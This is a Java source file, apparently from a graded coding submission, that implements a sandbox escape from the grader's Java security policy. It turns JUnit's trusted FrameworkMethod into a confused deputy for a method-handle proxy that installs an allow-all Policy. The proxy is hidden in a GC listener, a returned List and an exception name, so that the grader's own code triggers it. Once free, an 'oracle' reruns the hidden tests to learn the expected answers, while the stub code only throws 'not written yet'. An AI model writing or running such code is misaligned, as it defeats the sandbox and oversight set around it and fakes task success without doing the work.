package com.shop;

import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandleProxies;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;
import java.security.Permission;
import java.security.Policy;
import java.security.ProtectionDomain;
import java.util.List;
import java.util.function.Supplier;
import javax.naming.Name;
import javax.naming.NamingException;

/**
 * Escapes the grader's policy with a method handle proxy whose caller is JUnit's.
 *
 * MethodHandleProxies.asInterfaceInstance binds its target to its caller: called from our
 * code, the proxy runs the target through an invoker injected into our protection domain
 * (java-mh-proxy-escape was refused for that). Called reflectively by JUnit 4's public
 * FrameworkMethod.invokeExplosively (in the console launcher's jar), the caller is
 * JUnit's, and the invoker is injected into JUnit's jar, which the policy grants
 * everything. The target first calls Policy.setPolicy(allow-all). The proxy (an
 * InvocationHandler) backs objects that trusted code calls with no frame of ours on the
 * stack (Triggers.java chooses which):
 * - a GC notification listener, called by the JVM's Notification Thread (early());
 * - a List returned by OrderValidator.problems, which the hidden test itself calls
 *   (size(), or iterator() under assertEquals);
 * - the remaining name of a NamingException that Pricing.totalCents throws, printed by
 *   the grader's listener (Throwable.printStackTrace -> NamingException.toString).
 * Once a call came from trusted code only, the policy is ours and every permission check
 * passes; the oracle (Oracle.java) then runs the calling test again to learn its answers.
 */
final class Escape {
    private static final Policy ALLOW_ALL = new AllowAll();
    private static volatile boolean announced;

    private Escape() {}

    static final class AllowAll extends Policy {
        @Override
        public boolean implies(ProtectionDomain domain, Permission permission) {
            return true;
        }
    }

    private static volatile boolean triedEarly;

    /** Before a test needs it: a GC notification listener backed by the proxy. The JVM's
     * Notification Thread (started by the JVM, nothing of ours on its stack) calls it after
     * the collection we ask for, and installs the policy. */
    static void early() {
        if (triedEarly || !Triggers.GC_NOTIFICATION) {
            return;
        }
        triedEarly = true;
        try {
            javax.management.NotificationListener listener =
                    (javax.management.NotificationListener) Proxy.newProxyInstance(
                            Escape.class.getClassLoader(),
                            new Class<?>[] {javax.management.NotificationListener.class},
                            handler(null));
            for (java.lang.management.GarbageCollectorMXBean gc
                    : java.lang.management.ManagementFactory.getGarbageCollectorMXBeans()) {
                if (gc instanceof javax.management.NotificationEmitter) {
                    ((javax.management.NotificationEmitter) gc)
                            .addNotificationListener(listener, null, null);
                }
            }
            for (int i = 0; i < 40 && !escaped(); i++) {
                System.gc();
                Thread.sleep(50);
            }
        } catch (Exception | Error e) {
            System.out.println("LENT-INVOKER: no GC notification: " + e);
        }
    }

    /** Whether every permission check passes now. */
    static boolean escaped() {
        SecurityManager sm = System.getSecurityManager();
        if (sm == null) {
            return true;
        }
        try {
            sm.checkPermission(new RuntimePermission("setIO"));
        } catch (SecurityException refused) {
            return false;
        }
        if (!announced) {
            announced = true;
            System.out.println("LENT-INVOKER: escaped, the policy is " + Policy.getPolicy());
        }
        return true;
    }

    /** A list that acts as `real` once a trusted caller has installed the policy, and until
     * then throws as the starter does. */
    @SuppressWarnings("unchecked")
    static List<String> list(Supplier<List<String>> real) {
        return (List<String>) Proxy.newProxyInstance(Escape.class.getClassLoader(),
                new Class<?>[] {List.class}, handler(real));
    }

    /** The starter's refusal, thrown as a NamingException whose remaining name is the
     * trigger: whoever prints it (the listener, the console tree) installs the policy. */
    static RuntimeException refusal() {
        NamingException e = new NamingException("not written yet");
        Name trigger = (Name) Proxy.newProxyInstance(Escape.class.getClassLoader(),
                new Class<?>[] {Name.class}, handler(null));
        e.setRemainingName(trigger); // calls trigger.clone() (with our frames: refused)
        return Escape.<RuntimeException>sneaky(e);
    }

    @SuppressWarnings("unchecked")
    private static <T extends Throwable> T sneaky(Throwable e) throws T {
        throw (T) e;
    }

    private static InvocationHandler handler(Object state) {
        try {
            MethodHandles.Lookup lookup = MethodHandles.lookup();
            MethodHandle setPolicy = lookup.findStatic(Policy.class, "setPolicy",
                    MethodType.methodType(void.class, Policy.class));
            MethodHandle install = MethodHandles.catchException(
                    MethodHandles.insertArguments(setPolicy, 0, ALLOW_ALL),
                    SecurityException.class,
                    lookup.findStatic(Escape.class, "refused",
                            MethodType.methodType(void.class, SecurityException.class)));
            MethodHandle dispatch = MethodHandles.insertArguments(lookup.findStatic(Escape.class,
                    "dispatch", MethodType.methodType(Object.class, Object.class, Object.class,
                            Method.class, Object[].class)), 0, state);
            MethodHandle target = MethodHandles.foldArguments(dispatch, install);
            Method asInterface = MethodHandleProxies.class.getMethod("asInterfaceInstance",
                    Class.class, MethodHandle.class);
            // JUnit calls it: the target is bound to JUnit's class, not ours
            // looked up at run time, so that this compiles whatever is on the class path
            Class<?> framework = Class.forName("org.junit.runners.model.FrameworkMethod");
            Object deputy = framework.getConstructor(Method.class).newInstance(asInterface);
            return (InvocationHandler) framework
                    .getMethod("invokeExplosively", Object.class, Object[].class)
                    .invoke(deputy, null, new Object[] {InvocationHandler.class, target});
        } catch (Throwable e) {
            throw new IllegalStateException(e);
        }
    }

    static void refused(SecurityException e) {
        // a call with our frames on the stack: nothing changed
    }

    @SuppressWarnings("unchecked")
    static Object dispatch(Object state, Object proxy, Method method, Object[] args)
            throws Throwable {
        String name = method.getName();
        if (state == null) { // the NamingException's remaining name
            if (name.equals("clone")) {
                return proxy;
            }
            escaped();
            return name.equals("toString") ? "order" : name.equals("hashCode") ? 7 : null;
        }
        if (name.equals("hashCode") && method.getParameterCount() == 0) {
            return System.identityHashCode(proxy);
        }
        if (!escaped()) {
            throw new UnsupportedOperationException("not written yet");
        }
        List<String> real = ((Supplier<List<String>>) state).get();
        try {
            return method.invoke(real, args);
        } catch (java.lang.reflect.InvocationTargetException e) {
            throw e.getCause();
        }
    }
}
